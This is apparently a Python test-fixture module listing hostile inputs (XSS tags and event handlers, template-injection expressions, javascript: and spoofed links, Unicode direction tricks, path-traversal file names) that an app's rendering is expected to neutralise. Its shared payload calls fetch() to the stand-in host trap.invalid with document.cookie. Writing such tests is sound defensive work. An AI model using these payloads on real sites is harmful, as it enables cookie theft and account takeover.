"""What hostile people type: each must read as typed and do nothing, wherever it is shown."""

from __future__ import annotations

TRAP = "trap.invalid"
_RUN = "window.__pwned=1;fetch('https://trap.invalid/'+document.cookie)"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x onerror=\"{_RUN}\">",
    f"<img src=https://{TRAP}/pixel.png>",
    f"<svg onload=\"{_RUN}\"></svg>",
    f"<svg><animate onbegin=\"{_RUN}\" attributeName=x dur=1s></svg>",
    f"<iframe src=\"javascript:{_RUN}\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
    f"<details open ontoggle=\"{_RUN}\">x</details>",
    f"<input autofocus onfocus=\"{_RUN}\">",
    f"<body onload=\"{_RUN}\">",
    f"<a href=\"javascript:{_RUN}\">link</a>",
    f"<math><mtext><style><img src=x onerror=\"{_RUN}\"></style></mtext></math>",
    f"<style>*{{background:url(https://{TRAP}/css)}}</style>",
    f"<link rel=stylesheet href=https://{TRAP}/x.css>",
    f"<meta http-equiv=refresh content=\"0;url=https://{TRAP}/\">",
    f"<base href=https://{TRAP}/>",
    f"<form action=https://{TRAP}/><button>Send</button></form>",
    f"<object data=https://{TRAP}/x></object>",
    f"<video><source onerror=\"{_RUN}\"></video>",
    f"\" onmouseover=\"{_RUN}\" x=\"",
    f"' onfocus='{_RUN}' autofocus='",
    f"`-alert(1)-`${{{_RUN}}}",
    "&lt;b&gt;not bold&lt;/b&gt; &amp; &#60;i&#62;",
    "<!-- comment --><b>bold</b>",
    f"]]><script>{_RUN}</script>",
    "</textarea></title></style>x",
)
TEMPLATES = (
    "{{constructor.constructor('window.__pwned=1')()}}",
    "{{_openBlock.constructor('window.__pwned=1')()}}",
    "{{$emit.constructor`window.__pwned=1`()}}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "[[7*7]] {name} {customer} %(name)s %s $name",
    "v-html=\"'<img src=x onerror=window.__pwned=1>'\"",
)
LINKS = (
    f"[click](javascript:{_RUN})",
    f"![picture](https://{TRAP}/md.png)",
    "**bold** _italic_ `code` # heading\n- list\n> quote",
    "javascript:window.__pwned=1",
    "data:text/html,<script>opener.__pwned=1</script>",
    "vbscript:msgbox(1) file:///etc/passwd",
    f"https://{TRAP}/path?q=<script>window.__pwned=1</script>",
    f"https://lanmo.example@{TRAP}/login",
    f"https://{TRAP}\u202e/moc.omnal//:sptth",
    "=HYPERLINK(\"https://trap.invalid\",\"x\")",
)
LETTERS = (
    "\u202ethis runs from right to left\u202c and back",
    "\u2066\u202e\u2069 isolates \u2067left\u2069",
    "zero\u200bwidth\u200cnon\u200djoiner\ufeff",
    "W" * 1500,
    "很" * 1500,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞" * 20,
    "😀👨‍👩‍👧‍👦🏳️‍🌈🇨🇳" * 200,
    "a\tb\u2028c\u2029d\n\n\n\n\n\n\n\n\n\ne",
    "ﷺ" * 200,
    "\u0488" * 300,
)
TEXTS = (*MARKUP, *TEMPLATES, *LINKS, *LETTERS)
NAMES = (MARKUP[2], TEMPLATES[0], "客服 Lin\u202e (管理员)", "名" * 200, "W" * 200)
FILE_NAMES = (
    "<img src=x onerror=window.__pwned=1>.txt", "\"onerror=\"window.__pwned=1.log", "invoice\u202etxt.exe.log",
    "{{constructor.constructor('window.__pwned=1')()}}.txt", "../../etc/passwd.txt", "长" * 200 + ".log",
)  # fmt: skip
